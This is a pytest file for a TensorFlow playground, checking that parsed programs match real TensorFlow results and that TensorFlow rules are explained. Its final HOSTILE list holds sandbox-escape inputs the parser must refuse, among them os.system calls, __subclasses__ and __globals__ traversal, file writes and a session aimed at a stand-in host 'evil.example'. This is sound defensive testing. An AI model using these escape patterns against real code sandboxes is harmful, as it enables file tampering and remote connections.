"""TensorFlow's own Python read onto the playground's programs, and programs written back as TensorFlow code.

The product never executes what a user typed. These tests execute their *own* fixture code and the
code `to_tensorflow` writes, with real TensorFlow, to prove that the playground computes (and prints)
exactly what TensorFlow does.
"""

import contextlib
import io
from dataclasses import dataclass

import numpy as np
import pytest
import tensorflow as tf
from tensorflow.python.eager import context

from dlviz.graphs import compgraph, playground, tfnames
from dlviz.graphs.presets import PRESETS
from dlviz.graphs.program import STYLES, ProgramError, parse, to_tensorflow


@dataclass(frozen=True)
class Fixture:
    text: str
    twin: str | None = None  # the same computation in the playground's own language
    graph: bool = False  # TF1 graph code: run inside a tf.Graph in the test
    compare: tuple[str, ...] = ()  # names to compare with the twin (default: every shared name)
    tf1_module: bool = False  # written for `import tensorflow.compat.v1 as tf` (TF1 names), as the page's note says


FIXTURES = {
    "the notes' first example in a session": Fixture("""\
import numpy as np
import tensorflow as tf

a = np.array([1, 2, 3])
b = np.array([4, 5, 6])
c = tf.multiply(a, b)
with tf.compat.v1.Session() as sess:
    result = sess.run(c)
    print(result)
""", 'a = constant([1, 2, 3], dtype="int64")\nb = constant([4, 5, 6], dtype="int64")\nc = a * b\nresult = c', graph=True),
    "eager constants and matmul": Fixture("""\
import tensorflow as tf

a = tf.constant([[1.0, 2.0], [3.0, 4.0]])
b = tf.constant([[1.0, 0.5], [0.0, 1.0]])
c = tf.matmul(a, b)
d = tf.add(c, 1.0)
print(c)
print(d.numpy())
""", "a = constant([[1.0, 2.0], [3.0, 4.0]])\nb = constant([[1.0, 0.5], [0.0, 1.0]])\nc = a @ b\nd = c + 1.0"),
    "a placeholder fed in a session": Fixture("""\
import tensorflow as tf

x = tf.compat.v1.placeholder(tf.float32, shape=[None, 3], name="x")
W = tf.constant([[1.0, -1.0], [0.5, 2.0], [-2.0, 1.0]])
y = tf.matmul(x, W)
with tf.compat.v1.Session() as sess:
    out = sess.run(y, feed_dict={x: [[1.0, 2.0, 3.0], [4.0, 5.0, 6.0]]})
    print(out)
""", 'x = placeholder([None, 3], name="x")\nW = constant([[1.0, -1.0], [0.5, 2.0], [-2.0, 1.0]])\ny = x @ W\nout = y', graph=True),
    "variables and their initializer": Fixture("""\
import tensorflow as tf

x = tf.compat.v1.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable(tf.ones([2, 2]))
b = tf.Variable(tf.fill([2], 0.5))
y = tf.nn.relu(tf.matmul(x, W) - b)
init = tf.compat.v1.global_variables_initializer()
with tf.compat.v1.Session() as sess:
    sess.run(init)
    out = sess.run(y, feed_dict={x: [[1.0, -2.0], [0.25, 0.5]]})
    print(out)
""", "x = placeholder([None, 2])\nW = variable(ones([2, 2]))\nb = variable(fill([2], 0.5))\ny = relu(x @ W - b)\nout = y", graph=True),
    "a GradientTape": Fixture("""\
import tensorflow as tf

W = tf.Variable([[1.0, 2.0], [3.0, 4.0]])
b = tf.Variable([0.5, -0.5])
x = tf.constant([[1.0, 1.0], [2.0, -1.0]])
with tf.GradientTape() as tape:
    y = tf.matmul(x, W) + b
    loss = tf.reduce_mean(tf.square(y))
dW, db = tape.gradient(loss, [W, b])
print(loss.numpy())
""", "W = variable([[1.0, 2.0], [3.0, 4.0]])\nb = variable([0.5, -0.5])\nx = constant([[1.0, 1.0], [2.0, -1.0]])\n"
        "y = x @ W + b\nloss = reduce_mean(square(y))\ndW, db = grad(loss, [W, b])"),
    "a tf.function": Fixture("""\
import tensorflow as tf

@tf.function
def dense(x, W, b):
    z = tf.matmul(x, W) + b
    return tf.nn.sigmoid(z)

x = tf.constant([[0.5, -1.0, 2.0]])
W = tf.Variable([[0.1, 0.2], [0.3, 0.4], [0.5, 0.6]])
b = tf.Variable([0.0, 1.0])
out = dense(x, W, b)
print(out.numpy())
""", "x = constant([[0.5, -1.0, 2.0]])\nW = variable([[0.1, 0.2], [0.3, 0.4], [0.5, 0.6]])\nb = variable([0.0, 1.0])\n"
        "z = x @ W + b\nout = sigmoid(z)"),
    "tf.gradients in a session": Fixture("""\
import tensorflow as tf

x = tf.compat.v1.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable([[1.0, -1.0], [2.0, 0.5]])
loss = tf.reduce_sum(tf.square(tf.matmul(x, W)))
dW, = tf.gradients(loss, [W])
init = tf.compat.v1.global_variables_initializer()
with tf.compat.v1.Session() as sess:
    sess.run(init)
    grad_value, loss_value = sess.run([dW, loss], feed_dict={x: [[1.0, 2.0]]})
    print(loss_value)
""", "x = placeholder([None, 2])\nW = variable([[1.0, -1.0], [2.0, 0.5]])\nloss = reduce_sum(square(x @ W))\n"
        "dW = grad(loss, W)\ngrad_value = dW\nloss_value = loss", graph=True),
    "NumPy dtypes and tf.cast": Fixture("""\
import numpy as np
import tensorflow as tf

data = np.array([[1.5, 2.0], [3.0, 4.5]], dtype=np.float32)
counts = tf.constant([1, 2], dtype=tf.int32)
scaled = tf.cast(counts, tf.float32) * data
mean = tf.reduce_mean(scaled, axis=0, keepdims=True)
print(mean.numpy())
print(scaled)
""", "data = constant([[1.5, 2.0], [3.0, 4.5]])\ncounts = constant([1, 2])\nscaled = counts * data\n"
        "mean = reduce_mean(scaled, axis=0, keepdims=True)", compare=("data", "scaled", "mean")),
    "softmax, reductions and shapes": Fixture("""\
import tensorflow as tf

logits = tf.constant([[2.0, 1.0, 0.1], [0.5, 0.5, 3.0]])
p = tf.nn.softmax(logits)
total = tf.reduce_sum(p, axis=1)
joined = tf.concat([logits, p], 0)
r = tf.reshape(joined, [3, 4])
t = tf.transpose(r, perm=[1, 0])
biggest = tf.reduce_max(t)
print(total.numpy(), biggest.numpy())
""", "logits = constant([[2.0, 1.0, 0.1], [0.5, 0.5, 3.0]])\np = softmax(logits)\ntotal = reduce_sum(p, axis=1)\n"
        "joined = concat([logits, p], axis=0)\nr = reshape(joined, [3, 4])\nt = transpose(r, [1, 0])\nbiggest = reduce_max(t)"),
    "a second derivative with nested tapes": Fixture("""\
import tensorflow as tf

x = tf.constant(3.0)
with tf.GradientTape() as outer:
    outer.watch(x)
    with tf.GradientTape() as inner:
        inner.watch(x)
        y = x * x * x
    dy = inner.gradient(y, x)
d2y = outer.gradient(dy, x)
print(dy.numpy(), d2y.numpy())
""", "x = constant(3.0)\ny = x * x * x\ndy = grad(y, x)\nd2y = grad(dy, x)"),
    "an int32 placeholder and bare numbers": Fixture("""\
import tensorflow as tf

n = tf.compat.v1.placeholder(tf.int32, shape=[3])
y = n * 2 + 1
with tf.compat.v1.Session() as sess:
    out = sess.run(y, feed_dict={n: [1, 2, 3]})
    print(out)
""", 'n = placeholder([3], dtype="int32")\ny = n * 2 + 1\nout = y', graph=True),
    "TensorFlow 1 names": Fixture("""\
import tensorflow as tf

x = tf.placeholder(tf.float32, shape=[2])
w = tf.Variable(tf.ones([2]))
y = tf.log(x * w)
init = tf.global_variables_initializer()
with tf.Session() as sess:
    sess.run(init)
    out = sess.run(y, feed_dict={x: [1.0, 2.0]})
    print(out)
""", "x = placeholder([2])\nw = variable(ones([2]))\ny = log(x * w)\nout = y", graph=True, tf1_module=True),
    "seeded random numbers, eager": Fixture("""\
import tensorflow as tf

tf.random.set_seed(42)
a = tf.random.uniform([2, 3], seed=3)
b = tf.random.truncated_normal([2, 3], stddev=0.5, seed=4)
W = tf.Variable(tf.random.normal([3, 2], seed=5))
c = tf.matmul(a + b, W)
print(c.numpy())
"""),
    "seeded random numbers in a session": Fixture("""\
import tensorflow as tf

W = tf.Variable(tf.random.normal([2, 2], mean=1.0, stddev=0.1, seed=7))
x = tf.compat.v1.placeholder(tf.float32, shape=[None, 2])
y = tf.matmul(x, W)
with tf.compat.v1.Session() as sess:
    sess.run(tf.compat.v1.global_variables_initializer())
    out = sess.run(y, feed_dict={x: [[1.0, 0.0], [0.0, 1.0]]})
    print(out)
""", graph=True),
}


@contextlib.contextmanager
def fresh_tensorflow_state():
    """Stateful random ops start their sequence afresh, and no global seed leaks into other tests."""
    context.context().clear_kernel_cache()
    try:
        yield
    finally:
        tf.random.set_seed(None)


def execute(code: str, graph: bool = False, feeds=None) -> tuple[dict[str, np.ndarray], list[str]]:
    """Run the test's own code (a fixture, or what to_tensorflow wrote) with real TensorFlow.

    Returns the values of the names it binds and the lines it prints. For TF1 graph code, every tensor
    it named is fetched afterwards in a new session of its graph, with `feeds` for its placeholders."""
    namespace: dict = {}
    printed = io.StringIO()
    with fresh_tensorflow_state(), contextlib.redirect_stdout(printed):
        if not graph:
            exec(code, namespace)  # noqa: S102 - the test's own code, never text from a user
            return _values(namespace), printed.getvalue().splitlines()
        with tf.Graph().as_default() as built:
            exec(code, namespace)  # noqa: S102
            initializer = tf.compat.v1.global_variables_initializer()
        tensors = {name: value for name, value in namespace.items() if isinstance(value, tf.Tensor | tf.Variable)}
        with tf.compat.v1.Session(graph=built) as session:
            session.run(initializer)
            fetched = session.run(tensors, feed_dict={namespace[name]: value for name, value in (feeds or {}).items()})
    fetched = {name: np.asarray(value) for name, value in fetched.items()}
    return {**_values(namespace, eager=False), **fetched}, printed.getvalue().splitlines()


def _values(namespace: dict, eager: bool = True) -> dict[str, np.ndarray]:
    values = {}
    for name, value in namespace.items():
        if isinstance(value, np.ndarray | np.generic):
            values[name] = np.asarray(value)
        elif eager and (isinstance(value, tf.Variable) or (tf.is_tensor(value) and hasattr(value, "numpy"))):
            values[name] = value.numpy()
    return values


def run_program(text: str, feeds=None) -> tuple[dict[str, compgraph.RunResult], object]:
    parsed = parse(text)
    results = compgraph.run_all(parsed, compgraph.resolve_feeds(parsed, feeds))
    return results, parsed


def assert_same(ours: dict[str, np.ndarray], theirs: dict[str, np.ndarray], names) -> None:
    names = list(names)
    assert names
    for name in names:
        np.testing.assert_allclose(ours[name], theirs[name], rtol=1e-6, atol=1e-7, err_msg=name)
        assert ours[name].dtype == theirs[name].dtype, (name, ours[name].dtype, theirs[name].dtype)


@pytest.mark.parametrize("name", list(FIXTURES))
def test_tensorflow_code_gives_what_tensorflow_gives(name):
    fixture = FIXTURES[name]
    results, parsed = run_program(fixture.text)
    assert max(compgraph.disagreement(results).values()) < 1e-6  # every mode computes the same numbers
    real_text = fixture.text.replace("import tensorflow as tf", "import tensorflow.compat.v1 as tf") if fixture.tf1_module else fixture.text
    theirs, printed = execute(real_text, fixture.graph, parsed.feeds)
    own = results[parsed.mode if parsed.mode in ("eager", "session") else "eager"].values
    shared = [name for name in theirs if name in own]
    assert len(shared) >= 3
    assert_same(own, theirs, shared)
    analysis = playground.analyse(fixture.text, {})
    assert analysis.ok
    assert "\n".join(playground.output_lines(analysis)).splitlines() == printed  # the output panel prints what Python would


@pytest.mark.parametrize("name", [name for name, fixture in FIXTURES.items() if fixture.twin])
def test_tensorflow_code_and_its_playground_twin_agree(name):
    fixture = FIXTURES[name]
    results, parsed = run_program(fixture.text)
    twin = parse(fixture.twin)
    assert twin.mode is None  # the playground's own language
    twin_results = compgraph.run_all(twin, compgraph.resolve_feeds(twin, parsed.feeds))
    names = fixture.compare or [name for name in twin.names if name in parsed.by_name]
    for mode in compgraph.MODES:
        assert_same(results[mode].values, twin_results[mode].values, names)


def assert_code_reproduces(program, feeds=None) -> None:
    expected = compgraph.run(program, compgraph.resolve_feeds(program, feeds), "eager").values
    for style in STYLES:
        code = to_tensorflow(program, style, feeds)
        namespace: dict = {}
        printed = io.StringIO()
        with fresh_tensorflow_state(), contextlib.redirect_stdout(printed):
            exec(code, namespace)  # noqa: S102 - code the product wrote, run by the test
        values, printed = namespace["values"], printed.getvalue().splitlines()
        assert list(values) == program.names, style
        assert_same(values, expected, program.names)
        assert printed and printed[0].startswith(f"{program.names[0]} =")


@pytest.mark.parametrize("name", list(PRESETS))
def test_written_code_reproduces_every_preset(name):
    assert_code_reproduces(parse(PRESETS[name]))


@pytest.mark.parametrize("name", list(FIXTURES))
def test_written_code_reproduces_tensorflow_programs(name):
    assert_code_reproduces(parse(FIXTURES[name].text))


def test_written_code_uses_the_feeds_given_as_literals():
    program = parse(PRESETS["A linear layer"])
    feeds = {"x": np.array([[0.1, 0.2, 0.3]], dtype=np.float32)}
    code = to_tensorflow(program, "tf1", feeds)
    assert "tf.compat.v1.placeholder(tf.float32, shape=[None, 3]" in code and "[[0.1, 0.2, 0.3]]" in code
    assert_code_reproduces(program, feeds)
    with pytest.raises(ValueError, match="style"):
        to_tensorflow(program, "tf3")


def test_names_that_would_hide_python_or_tensorflow_are_renamed_in_the_code():
    program = parse("tf = constant([1.0, 2.0])\nprint = tf * 2\nvalues = print + tf")
    assert_code_reproduces(program)


# -- the contract: feeds, modes, named nodes ---------------------------------------------------------------
def test_feeds_written_in_the_text_are_used_when_none_are_passed():
    parsed = parse(FIXTURES["a placeholder fed in a session"].text)
    np.testing.assert_array_equal(parsed.feeds["x"], [[1, 2, 3], [4, 5, 6]])
    result = compgraph.run(parsed, {}, "session")
    np.testing.assert_allclose(result.values["out"], parsed.feeds["x"] @ result.values["W"])
    other = compgraph.run(parsed, {"x": np.ones((1, 3))}, "session")  # the caller's feed wins
    np.testing.assert_allclose(other.values["out"], np.ones((1, 3)) @ result.values["W"])


def test_every_assigned_name_is_a_node():
    names = set(parse(FIXTURES["a tf.function"].text).names) | set(parse(FIXTURES["a GradientTape"].text).names)
    assert {"out", "dense/z", "dW", "db", "loss", "y"} <= names
    assert {"result", "c"} <= set(parse(FIXTURES["the notes' first example in a session"].text).names)


@pytest.mark.parametrize(("text", "mode"), [
    ("import tensorflow as tf\na = tf.constant(1.0)", "eager"),
    (FIXTURES["a tf.function"].text, "graph"),
    (FIXTURES["a placeholder fed in a session"].text, "session"),
    ("import tensorflow as tf\ntf.compat.v1.disable_eager_execution()\na = tf.constant(1.0)\nb = a * 2", "session"),
    ("import tensorflow.compat.v1 as tf\ntf.disable_v2_behavior()\na = tf.constant(1.0)", "session"),
    ("import tensorflow as tf\ntf.compat.v1.enable_eager_execution()\na = tf.constant(1.0)", "eager"),
    ("a = constant(1.0)", None),
])
def test_the_code_selects_its_mode(text, mode):
    assert parse(text).mode == mode


def test_names_tensorflow_2_moved_are_read_and_explained():
    notes = " ".join(note.text for note in parse(FIXTURES["TensorFlow 1 names"].text).notes)
    for old, new in [("tf.Session", "tf.compat.v1.Session"), ("tf.placeholder", "tf.compat.v1.placeholder"),
                     ("tf.log", "tf.math.log"), ("tf.global_variables_initializer", "tf.compat.v1.global_variables_initializer")]:
        assert f"{old} is TensorFlow 1: in TensorFlow 2 this is {new}" in notes
    assert "disable_eager_execution" in notes  # how to run TF1 graph code in TensorFlow 2
    assert not parse(FIXTURES["TensorFlow 1 names"].text.replace("import tensorflow as tf", "import tensorflow.compat.v1 as tf")).notes[:-1]


def test_every_name_the_reader_knows_is_where_it_says_in_tensorflow():
    def find(module, path):
        for part in path.split("."):
            module = getattr(module, part, None)
        return module

    for path, entry in tfnames.TF_NAMES.items():
        assert (find(tf, path) is not None) == entry.v2, path
        if entry.v1:
            assert find(tf.compat.v1, path) is not None, path
        if entry.tf2:
            assert find(tf, entry.tf2.removeprefix("tf.")) is not None, entry.tf2


# -- TensorFlow's own rules, explained instead of None or a crash -------------------------------------------
RULES = [
    ("import tensorflow as tf\nx = tf.constant(2.0)\ny = x * x\nwith tf.GradientTape() as tape:\n    z = y * 3\ndx = tape.gradient(z, x)",
     "does not watch 'x'"),
    ("import tensorflow as tf\nW = tf.Variable(2.0)\ny = W * W\nwith tf.GradientTape() as tape:\n    z = tf.identity(W)\ndW = tape.gradient(y, W)",
     "computed outside"),
    ("import tensorflow as tf\nW = tf.Variable(2.0)\nh = W * 3\nwith tf.GradientTape() as tape:\n    z = h * h\ndW = tape.gradient(z, W)",
     "only through steps computed outside"),
    ("import tensorflow as tf\nW = tf.Variable(2.0)\nwith tf.GradientTape() as tape:\n    z = W * W\na = tape.gradient(z, W)\nb = tape.gradient(z, W)",
     "persistent=True"),
    ("import tensorflow as tf\nW = tf.Variable([1.0])\nwith tf.compat.v1.Session() as sess:\n    v = sess.run(W)",
     "uninitialised"),
    ("import tensorflow as tf\ninit = tf.compat.v1.global_variables_initializer()\nW = tf.Variable([1.0])\n"
     "with tf.compat.v1.Session() as sess:\n    sess.run(init)\n    v = sess.run(W)", "uninitialised"),
    ("import tensorflow as tf\nx = tf.compat.v1.placeholder(tf.float32, shape=[2])\ny = x * 2\n"
     "with tf.compat.v1.Session() as sess:\n    v = sess.run(y)", "needs a value for placeholder 'x'"),
    ("import tensorflow as tf\nx = tf.compat.v1.placeholder(tf.float32, shape=[1])\nwith tf.compat.v1.Session() as sess:\n"
     "    a = sess.run(x, feed_dict={x: [1.0]})\n    b = sess.run(x, feed_dict={x: [2.0]})", "fed a different value"),
    ("import tensorflow as tf\nx = tf.compat.v1.placeholder(tf.float32, shape=[None, 3])\nwith tf.compat.v1.Session() as sess:\n"
     "    a = sess.run(x, feed_dict={x: [1.0, 2.0]})", "shape is (None, 3)"),
    ("import tensorflow as tf\nx = tf.compat.v1.placeholder(tf.float32, shape=[1])\ny = x.numpy()", ".numpy() works only in eager"),
    ("import tensorflow as tf\na = tf.constant([1, 2])\nb = tf.constant([1.0, 2.0])\nc = a + b", "'a' is int32, 'b' is float32"),
    ("import tensorflow as tf\na = tf.constant([1, 2])\nc = a * 2.5", "is a float, so it cannot join int32"),
    ("import tensorflow as tf\na = tf.constant([1, 2])\nc = tf.sqrt(a)", "works on float tensors"),
    ("import tensorflow as tf\na = tf.random.normal([2], seed=1)\nb = tf.random.normal([2], seed=1)", "its own seed"),
    ("import tensorflow as tf\na = tf.random.normal([2], seed=1)\ntf.random.set_seed(3)", "before the random initialisers"),
    ("import tensorflow as tf\nwith tf.compat.v1.Session() as sess:\n    pass\nx = tf.constant(1.0)\ny = sess.run(x)", "is closed"),
    ("import tensorflow as tf\n@tf.function\ndef f(x):\n    print(x)\n    return x\ny = f(tf.constant(1.0))", "only while TensorFlow traces"),
    ("import tensorflow as tf\n@tf.function\ndef f(x):\n    W = tf.Variable(1.0)\n    return x * W\ny = f(tf.constant(1.0))", "outside functions"),
    ("import tensorflow as tf\ndef f(x):\n    for i in range(3):\n        x = x * 2\n    return x", "Loops"),
    ("import tensorflow as tf\ndef f(x):\n    return f(x)\ny = f(tf.constant(1.0))", "calls itself"),
    ("import tensorflow as tf\nx = tf.constant([1, 2])\ndx = tf.gradients(x * x, x)", "gives a list"),
    ("import tensorflow as tf\ntf.compat.v1.enable_eager_execution()\nx = tf.compat.v1.placeholder(tf.float32, shape=[1])",
     "turns eager execution on"),
    ("import tensorflow as tf\nwith tf.GradientTape() as tape:\n    x = tf.constant(1.0)\ng = tape.gradient(x, [x])", "unpack it"),
    ("import tensorflow as tf\nx = tf.constant([[1.0]])\ny = x[0]", "Indexing"),
    ("import tensorflow as tf\nx = tf.constant([[1.0]])\ns = x.shape", "Attributes"),
    ("import tensorflow as tf\nx = tf.constant(1.0)\nx * 2\ny = x", "drops it"),
    ("import tensorflow as tf\nx = tf.constant(1.0)\nprint(x, sep='')", "no sep="),
    ("import tensorflow as tf\nx = tf.constant(1.0)\nprint(f'{x!r}')", "plain {name}"),
    ("import tensorflow as tf\nx = tf.zeros(3, dtype=tf.string)", "dtype must be one of tf.float32"),
    ("import numpy as np\nx = np.random.rand(3)", "different numbers on every run"),
    ("import tensorflow as tf\nx = tf.compat.v1.placeholder(tf.float32)", "Give the placeholder a shape"),
]


@pytest.mark.parametrize(("text", "expected"), RULES)
def test_tensorflow_rules_are_explained(text, expected):
    with pytest.raises(ProgramError) as caught:
        parse(text)
    assert expected in caught.value.message
    assert caught.value.line >= 1


def test_an_unconnected_gradient_is_noted_and_is_zero_as_written_in_the_code():
    parsed = parse("import tensorflow as tf\nW = tf.Variable([1.0, 2.0])\nwith tf.GradientTape() as tape:\n"
                   "    z = tf.constant(3.0) * 2\ndW = tape.gradient(z, W)")
    assert any("TensorFlow gives None" in note.text for note in parsed.notes)
    np.testing.assert_array_equal(compgraph.run(parsed, {}, "eager").values["dW"], [0.0, 0.0])
    assert "UnconnectedGradients.ZERO" in to_tensorflow(parsed, "tf2")


# -- hostile TensorFlow-style programs: refused, with a position, and nothing happens -------------------------
HOSTILE = [
    'import tensorflow as tf\nw = tf.io.write_file("{target}", "pwned")',
    'import tensorflow as tf\nf = tf.io.gfile.GFile("{target}", "w")',
    'import tensorflow as tf\nwith tf.io.gfile.GFile("{target}", "w") as f:\n    pass',
    'import tensorflow as tf\nx = tf.py_function(print, [], [])',
    'import tensorflow as tf\nx = tf.numpy_function(print, [], [])',
    'import numpy as np\nx = np.load("{target}")',
    'import numpy as np\nnp.save("{target}", np.zeros(3))',
    'import numpy as np\nx = np.fromfile("{target}")',
    'import tensorflow as tf\nx = getattr(tf, "io")',
    'import tensorflow as tf\nx = tf.__builtins__["open"]("{target}", "w")',
    'import tensorflow as tf\nx = tf.constant(1.0)\ny = x.__class__.__base__.__subclasses__()',
    'import tensorflow as tf\nx = __import__("os").system("touch {target}")',
    'import tensorflow as tf\nm = tf.keras.models.load_model("{target}")',
    'import tensorflow as tf\nm = tf.saved_model.load("{target}")',
    'import tensorflow as tf\nw = tf.raw_ops.WriteFile(filename="{target}", contents="pwned")',
    'import tensorflow as tf\nd = tf.data.TextLineDataset("{target}")',
    'import tensorflow as tf\nx = tf.constant(1.0)\ntf.print(x, output_stream="file://{target}")',
    'import tensorflow as tf\nlib = tf.load_op_library("{target}")',
    'import tensorflow as tf\nsess = tf.compat.v1.Session("grpc://evil.example:2222")',
    'import tensorflow as tf\nwith tf.compat.v1.Session(target="grpc://evil.example:2222") as sess:\n    pass',
    'from tensorflow.python.ops import gen_io_ops\nx = gen_io_ops.write_file("{target}", "pwned")',
    'import os\nos.system("touch {target}")',
    'import tensorflow as tf\ndef f(x):\n    import os\n    return x',
    'import tensorflow as tf\ndef f(x):\n    return tf.io.write_file("{target}", "pwned")',
    'import tensorflow as tf\nf = tf.function(lambda: open("{target}", "w"))',
    'import tensorflow as tf\nx = tf.constant(1.0)\nwith tf.compat.v1.Session() as sess:\n    sess.run(tf.io.write_file("{target}", "x"))',
    'import tensorflow as tf\nx = tf.constant(1.0)\nprint(open("{target}", "w"))',
    'import tensorflow as tf\nx = tf.summary.create_file_writer("{target}")',
    'import tensorflow as tf\nx = tf.strings.format("{{}}", [1])',
    'exec("import os")',
    'import tensorflow as tf\nx = tf.nn.relu.__globals__',
    'import keras\nm = keras.models.load_model("{target}")',
    'import tensorflow as tf\nfrom tensorflow import keras\nm = keras.saving.load_model("{target}")',
    'import numpy as np\nx = np.lib.format.open_memmap("{target}", mode="w+", shape=(3,))',
]


@pytest.mark.parametrize("template", HOSTILE)
def test_hostile_tensorflow_code_is_refused_without_effect(template, tmp_path):
    target = tmp_path / "pwned.txt"
    with pytest.raises(ProgramError) as caught:
        parse(template.format(target=target))
    assert caught.value.line >= 1 and caught.value.col >= 1
    assert str(caught.value).startswith(f"Line {caught.value.line}, column ")
    assert not target.exists() and not list(tmp_path.iterdir())
